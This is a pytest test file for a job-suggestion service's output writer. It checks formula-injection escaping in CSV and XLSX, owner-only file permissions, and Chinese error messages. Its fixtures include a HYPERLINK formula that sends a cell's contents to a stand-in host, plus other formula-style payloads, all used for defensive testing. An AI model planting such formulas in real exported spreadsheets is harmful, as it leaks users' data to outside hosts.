"""Writing suggestions: text stays text in CSV and XLSX, the file is the owner's alone, and
a path that cannot be written is a Chinese error that leaves nothing behind."""

from __future__ import annotations

import csv
import json
import os
import stat

import pytest
from openpyxl import load_workbook

from features.records import Job
from matching.results import GraduateSuggestions, Rejection, Suggestion
from matching.verdict import Status
from service.errors import JobmatchError
from service.output import check_output_path, csv_safe, write_suggestions

FORMULA_TITLE = '=HYPERLINK("http://example.com/?x="&A1,"点击")'
JOBS = {
    "J1": Job(id="J1", title=FORMULA_TITLE, employer="+86 某公司", location="@乌鲁木齐"),
    "J2": Job(id="-5", title="-会计", employer="\t财政局", location="\r喀什"),
    "J3": Job(id="J3", title="出纳", employer="财政局", location="和田"),
}
RESULTS = [
    GraduateSuggestions(
        graduate_id="=1+1",
        suggestions=(
            Suggestion(job_id="J1", rank=1, score=0.9, status=Status.ELIGIBLE, reasons=("=专业相符",)),
            Suggestion(job_id="J2", rank=2, score=0.5, status=Status.ELIGIBLE, reasons=("专业相符",)),
        ),
        rejected=(Rejection(job_id="J3", score=0.4, reasons=("民族不符：限少数民族",), discloses=("ethnicity",)),),
    )
]


@pytest.mark.parametrize(
    ("value", "written"),
    [("=1+1", "'=1+1"), ("+86", "'+86"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("-会计", "'-会计"), ("-", "'-"), ("-5", "-5"), ("-1.5", "-1.5"), ("-1e3", "-1e3"), ("会计=出纳", "会计=出纳"),
     ("", ""), (0.5, 0.5), (-3, -3), (None, None)],
)  # fmt: skip
def test_csv_text_that_a_spreadsheet_would_run_gets_a_leading_quote(value, written):
    assert csv_safe(value) == written


def test_csv_output_neutralises_formulas_and_keeps_numbers(tmp_path):
    out = tmp_path / "out.csv"
    write_suggestions(out, RESULTS, JOBS)
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    first, second, third = rows
    assert (first["graduate_id"], first["job_title"], first["employer"], first["location"], first["reasons"]) == (
        "'=1+1", "'" + FORMULA_TITLE, "'+86 某公司", "'@乌鲁木齐", "'=专业相符")
    assert (second["job_id"], second["job_title"], second["employer"], second["location"]) == ("-5", "'-会计", "'\t财政局", "'\r喀什")
    assert (first["rank"], first["score"], third["rank"], third["job_title"]) == ("1", "0.9", "", "出纳")


def test_xlsx_output_writes_formula_like_text_as_text(tmp_path):
    out = tmp_path / "out.xlsx"
    write_suggestions(out, RESULTS, JOBS)
    sheet = load_workbook(out).active  # not data_only: a formula would read back as one
    header = [c.value for c in sheet[1]]
    first = {name: cell for name, cell in zip(header, sheet[2])}  # one header row, in Chinese
    assert first["职位名称"].value == FORMULA_TITLE and first["职位名称"].data_type == "s"
    assert first["毕业生编号"].value == "=1+1" and first["毕业生编号"].data_type == "s"
    assert first["理由"].value == "=专业相符" and first["理由"].data_type == "s"
    assert first["排名"].value == 1 and first["得分"].value == 0.9  # numbers stay numbers
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".json"])
def test_the_output_is_readable_by_its_owner_only_whatever_the_umask(tmp_path, suffix):
    # Reasons may rest on ethnicity or disability, which only officers may read.
    out = tmp_path / f"out{suffix}"
    out.write_text("an older file, readable by all")
    out.chmod(0o644)
    previous = os.umask(0o022)
    try:
        write_suggestions(out, RESULTS, JOBS)
    finally:
        os.umask(previous)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


@pytest.mark.parametrize(
    ("name", "fragment"),
    [("isdir.csv", "输出路径是一个文件夹"), ("afile/res.csv", "上一级不是文件夹"), ("missing/res.csv", "输出目录不存在"),
     ("res.txt", "不支持的输出格式")],
)  # fmt: skip
def test_a_path_that_cannot_take_the_output_is_refused(tmp_path, name, fragment):
    (tmp_path / "isdir.csv").mkdir()
    (tmp_path / "afile").write_text("x")
    with pytest.raises(JobmatchError, match=fragment):
        check_output_path(tmp_path / name)
    with pytest.raises(JobmatchError, match=fragment):
        write_suggestions(tmp_path / name, RESULTS, JOBS)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["afile", "isdir.csv"]


def test_a_failure_while_writing_is_a_chinese_error_and_leaves_no_temporary_file(tmp_path, monkeypatch):
    out = tmp_path / "out.json"

    def full_disk(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", full_disk)
    with pytest.raises(JobmatchError, match="无法写入输出文件.*No space left on device"):
        write_suggestions(out, RESULTS, JOBS)
    assert list(tmp_path.iterdir()) == []


def test_json_output_keeps_text_exactly(tmp_path):
    out = tmp_path / "out.json"
    write_suggestions(out, RESULTS, JOBS)
    [payload] = json.loads(out.read_text(encoding="utf-8"))
    assert payload["graduate_id"] == "=1+1" and payload["suggestions"][0]["job_title"] == FORMULA_TITLE


def test_json_output_names_each_posts_employer_and_place(tmp_path):
    # Henan's posts are all 一级科员: the title alone does not tell the graduate which post, nor where.
    out = tmp_path / "out.json"
    write_suggestions(out, RESULTS, JOBS)
    [payload] = json.loads(out.read_text(encoding="utf-8"))
    first, _ = payload["suggestions"]
    [refused] = payload["not_eligible"]
    assert (first["employer"], first["location"]) == ("+86 某公司", "@乌鲁木齐")
    assert (refused["job_title"], refused["employer"], refused["location"]) == ("出纳", "财政局", "和田")
